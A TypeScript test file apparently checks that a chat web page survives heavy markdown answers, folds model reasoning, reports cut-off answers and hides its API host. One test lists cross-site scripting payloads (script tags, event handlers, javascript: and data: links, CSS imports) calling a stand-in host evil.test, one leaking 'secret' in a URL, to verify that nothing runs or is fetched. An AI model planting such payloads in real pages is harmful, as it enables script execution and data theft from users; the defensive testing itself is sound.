import { describe, expect, it, vi } from 'vitest'
import type { BrowserStage } from './browser-stage.ts'
import type { ChatPage } from './chat-page.ts'
import type { ScriptedApi } from './scripted-api.ts'

const times = (text: string, count: number) => text.repeat(count)

/** What overflowed the renderer or kept it busy for seconds. */
const heavy = [
  ['16 KB of asterisks', times('*', 16_000)],
  ['3,000 quotes in one another', `${times('> ', 3000)}x`],
  ['1,500 lists in one another', `${times('- ', 1500)}x`],
  ['tags in tags', times('<div>', 3000)],
  ['emphasis in emphasis', times('**a ', 3000) + times('b** ', 3000)],
  ['as much of it as is formatted', times('*a ', 990) + times('b* ', 990)],
  [
    'a table of 490,000 cells',
    `|${times('a|', 100)}\n|${times('-|', 100)}\n${times('|a|\n', 4900)}`,
  ],
  ['half a megabyte of code', `\`\`\`js\n${times('const a = 1\n', 40_000)}\`\`\``],
  ['a line of half a megabyte', times('word ', 100_000)],
] as const

/** `probe()` is called by whatever of an attack runs; each also names a host of its own that nothing may ask. */
const attacks = [
  '<script>probe()</script>',
  '<img src="http://evil.test/1" onerror="probe()">',
  '![picture](http://evil.test/2?talk=secret)',
  '[click](javascript:probe())',
  '[click](data:text/html,<script>parent.probe()</script>)',
  '<iframe srcdoc="<script>parent.probe()</script>" src="http://evil.test/3"></iframe>',
  '<svg onload="probe()"><script>probe()</script><image href="http://evil.test/4"/></svg>',
  '<style>@import url(http://evil.test/5); body { background: url(http://evil.test/6) }</style>',
  '<a href="vbscript:probe()" onclick="probe()" onmouseover="probe()" style="background:url(http://evil.test/7)">click</a>',
  '<form action="http://evil.test/8"><input autofocus onfocus="probe()"><button>click</button></form>',
  '<link rel="stylesheet" href="http://evil.test/9"><meta http-equiv="refresh" content="0;url=http://evil.test/10">',
  '<object data="http://evil.test/11"></object><embed src="http://evil.test/12"><video src="http://evil.test/13" onerror="probe()"></video>',
] as const

/** What a model may send to the page. */
export function answers(stage: () => BrowserStage, api: () => ScriptedApi): void {
  const answered = async (chat: ChatPage, turn = 0) => {
    await chat.page.getByTestId('message-assistant').nth(turn).waitFor({ state: 'attached' })
    await chat.settles()
  }

  describe('the page lives on', () => {
    it.each(heavy)('after %s, and after a reload', async (_, text) => {
      await using chat = await stage().open()
      api().say({ pieces: [{ text }] })
      await chat.ask('Be heavy.')
      await answered(chat)
      await chat.page.reload()
      await chat.page.getByTestId('message-assistant').waitFor({ state: 'attached' })
      api().say({ pieces: [{ text: 'Light.' }] })
      await chat.page.getByTestId('composer-input').focus()
      await chat.ask('And now?')
      await answered(chat, 1)
      const last = chat.page.getByTestId('message-assistant').nth(1)
      expect(await last.textContent()).toContain('Light.')
    })
  })

  it('runs nothing and fetches nothing that an answer names', async () => {
    await using chat = await stage().open()
    const { page } = chat
    const asked: string[] = []
    let ran = 0
    await page.exposeFunction('probe', () => {
      ran += 1
    })
    page.context().on('request', request => asked.push(request.url()))
    page.on('dialog', dialog => dialog.accept())
    for (const [turn, text] of attacks.entries()) {
      api().say({ pieces: [{ text: `Answer ${turn}.\n\n${text}` }] })
      await page.getByTestId('composer-input').focus()
      await chat.ask('Go on.')
      await answered(chat, turn)
    }
    expect(asked.filter(url => url.includes('evil.test'))).toEqual([])
    const address = page.url()
    for (const each of await page.locator('[role=log] :is(a, button, svg, input)').all()) {
      await each.click({ timeout: 1_000, force: true }).catch(() => {})
    }
    await page.bringToFront()
    expect(page.url()).toBe(address)
    expect(ran).toBe(0)
    const addresses = await page
      .locator('[role=log] a')
      .evaluateAll(links => links.map(link => link.getAttribute('href') ?? ''))
    expect(addresses.filter(each => /^\s*(?:javascript|data|vbscript):/i.test(each))).toEqual([])
  })

  it('shows what it thinks while it thinks, and folds it with the first word', async () => {
    await using chat = await stage().open()
    api().say({
      pieces: [
        { reasoning: 'First I look. ' },
        'hold',
        { reasoning: 'Then I leap.' },
        { text: 'Leap.' },
        'hold',
      ],
      usage: {
        prompt_tokens: 12,
        completion_tokens: 1345,
        completion_tokens_details: { reasoning_tokens: 1200 },
      },
    })
    await chat.ask('What now?')
    await chat.shows('reasoning', 'open')
    await chat.shows('ttft', 'thinking')
    const thoughts = chat.page.getByTestId('reasoning')
    expect(await thoughts.textContent()).toBe('Thinking…First I look. ')
    expect(await chat.page.getByTestId('ttft').textContent()).toBe('–')
    api().release()
    await chat.shows('reasoning', 'folded')
    await thoughts.getByText('Thought for').waitFor()
    expect(await thoughts.textContent()).toMatch(
      /^Thought for \d+(?:\.\d)? sFirst I look\. Then I leap\.$/,
    )
    api().release()
    await chat.settles()
    const value = async (testId: string) =>
      Number(await chat.page.getByTestId(testId).getAttribute('data-value'))
    expect(await value('time-to-reasoning')).toBeLessThan(await value('ttft'))
    await chat.page.reload()
    await chat.shows('reasoning', 'folded')
    expect(await thoughts.textContent()).toMatch(/^Thought for /)
    await thoughts.getByText('Thought for').click()
    await chat.shows('reasoning', 'open')
    expect(await chat.page.getByTestId('answer-facts').textContent()).toBe(
      '1,345 tokens written, 1,200 of them thoughts · 12 read',
    )

    api().say({ pieces: [{ text: 'Again.' }] })
    await chat.page.getByTestId('composer-input').focus()
    await chat.ask('And then?')
    await answered(chat, 1)
    expect(api().bodies.at(-1)).toContain('Leap.')
    expect(api().bodies.at(-1)).not.toContain('First I look')
  })

  it.each([
    ['length', 'Cut off: the model reached its longest answer'],
    ['content_filter', 'Cut off by the content filter'],
  ])('says why an answer is not whole: %s', async (finishReason, words) => {
    await using chat = await stage().open()
    api().say({ pieces: [{ text: 'Once upon a' }], finishReason })
    await chat.ask('A tale.')
    await answered(chat)
    expect(await chat.page.getByTestId('answer-facts').textContent()).toContain(words)
  })

  it('goes on after a stop before the first word', async () => {
    await using chat = await stage().open()
    api().say({ pieces: ['hold', { text: 'Late.' }] })
    const asked = api().bodies.length
    await chat.ask('One?')
    await chat.shows('messages', 'answering')
    // Stopped sooner, it would never be asked, and hold up the question after it.
    await vi.waitFor(() => expect(api().bodies).toHaveLength(asked + 1), { timeout: 20_000 })
    await chat.page.keyboard.press('Escape')
    await chat.shows('notice', 'stopped')
    api().say({ pieces: [{ text: 'Two.' }] })
    await chat.ask('Two?')
    await chat.page.getByTestId('messages').getByText('Two.').waitFor()
    await chat.settles()
    expect(await chat.page.getByTestId('notice').count()).toBe(0)
    const { messages } = JSON.parse(api().bodies.at(-1) ?? '') as { messages: { role: string }[] }
    expect(messages.map(({ role }) => role)).toEqual(['user'])
    api().release()
  })

  it('tells nobody where the API is', async () => {
    await using chat = await stage().open()
    const frames: string[] = []
    chat.page.on('websocket', socket =>
      socket.on('framereceived', ({ payload }) => frames.push(String(payload))),
    )
    await chat.page.reload()
    api().say({ pieces: [{ text: 'Here.' }] })
    await chat.page.getByTestId('composer-input').focus()
    await chat.ask('Where?')
    await answered(chat)
    expect(await chat.page.getByTestId('upstream').textContent()).toBe('scripted')
    const host = new URL(String(api().settings.OPEN_API_BASE_URL)).host
    expect(await chat.page.content()).not.toContain(host)
    expect(frames.join('')).not.toContain(host)
    expect(frames.join('')).toContain('"upstream":"scripted"')
  })
}
